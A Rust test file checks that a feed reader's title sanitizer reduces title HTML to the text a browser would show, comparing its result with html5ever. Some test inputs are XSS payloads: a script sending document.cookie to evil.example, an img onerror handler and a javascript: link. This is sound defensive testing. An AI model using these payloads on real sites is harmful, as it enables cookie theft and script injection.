//! Titles become the text a browser would render of their HTML.
//!
//! The feed core reads title HTML with a small tokenizer
//! (`sanitize::html_text`); here every case is also parsed by html5ever (a
//! spec-conformant HTML5 parser, like the browser's) and reduced to text by
//! the same policy walking that tree (`sanitize::text_of`): both must give
//! the same words. The whole path (feed → card heading in a browser) is
//! tested in tests/web_titles.rs.
#![cfg(not(target_arch = "wasm32"))]

mod support;

use syndicard::sanitize::{defang, html_text, text_of};

/// `s` with runs of ASCII whitespace collapsed and the ends trimmed, as
/// titles are.
fn words(s: &str) -> String {
    s.split_ascii_whitespace().collect::<Vec<_>>().join(" ")
}

/// The text of `html` as html5ever builds it, through the policy's
/// text-only walk (after `defang`, as in the browser).
fn browser_text(html: &str) -> String {
    let dom = support::html::parse(&defang(html));
    words(&text_of(&support::html::body(&dom)))
}

/// Title HTML (after the feed's own XML escaping is decoded) and the text
/// a reader must see.
const CASES: &[(&str, &str)] = &[
    ("<b>Acme</b> &amp; Co", "Acme & Co"),
    ("<b>Acme</b>s", "Acmes"),
    (
        "safe <script>location.href='https://evil.example/?'+document.cookie</script> description",
        "safe description",
    ),
    ("safe<!--", "safe"),
    ("sa<!-- alert(1); -->fe", "safe"),
    ("sa<!-->fe", "safe"),
    ("sa<!--->fe", "safe"),
    ("a <!-- x --!> b", "a b"),
    (r#"<img alt="a > b">Launch"#, "Launch"),
    (
        r#"<img alt='a > b' src=x onerror="alert(1)">Launch"#,
        "Launch",
    ),
    ("it&apos;s", "it's"),
    ("AT&amp;T &#8217;s", "AT&T \u{2019}s"),
    ("a < b and c > d", "a < b and c > d"),
    ("<style>h1{color:red}</style>Styled", "Styled"),
    ("<template><b>hidden</b></template>Shown", "Shown"),
    ("A <noscript>ns</noscript>Shown", "A Shown"),
    ("<textarea><b>x</b></textarea>Shown", "Shown"),
    ("<title>t</title>Shown", "Shown"),
    ("<span hidden>no</span>Shown", "Shown"),
    (r#"<span style="display:none">no</span>Shown"#, "Shown"),
    ("<p>One</p><p>Two</p>", "One Two"),
    ("One<br>Two<br/>Three", "One Two Three"),
    ("<div>One</div>Two", "One Two"),
    ("</b>stray end</i>", "stray end"),
    ("<?php echo 1 ?>PI", "PI"),
    ("<!DOCTYPE html>Doc", "Doc"),
    ("a</ x>b", "ab"),
    ("a</>b", "ab"),
    (
        "<a href='javascript:alert(1)'>Linked</a> title",
        "Linked title",
    ),
    ("Caf&eacute; &nbsp;open", "Caf\u{e9} \u{a0}open"),
    ("<script>a</script >b<script>c</SCRIPT>d", "bd"),
    ("<xmp><b>x</b></xmp>y", "y"),
    ("<p hidden>no<p>yes", "yes"),
    ("<li hidden>no<li>yes", "yes"),
    ("<svg><text>chart</text></svg> label", "chart label"),
    ("x<plaintext>a</plaintext>b", "x"),
];

#[test]
fn title_html_gives_the_text_a_browser_shows() {
    for (html, want) in CASES {
        assert_eq!(words(&html_text(html)), *want, "core: {html:?}");
        assert_eq!(browser_text(html), *want, "html5ever: {html:?}");
    }
}

#[test]
fn a_title_cut_off_inside_a_tag_keeps_its_text() {
    // The one place the core parts from a browser, on purpose: a browser
    // drops a tag the input ends inside of; a title ending that way is text
    // with a literal `<`.
    assert_eq!(
        words(&html_text("Profit <twice forecast")),
        "Profit <twice forecast"
    );
    assert_eq!(words(&html_text("<b>x</b> <a title='>")), "x <a title='>");
}
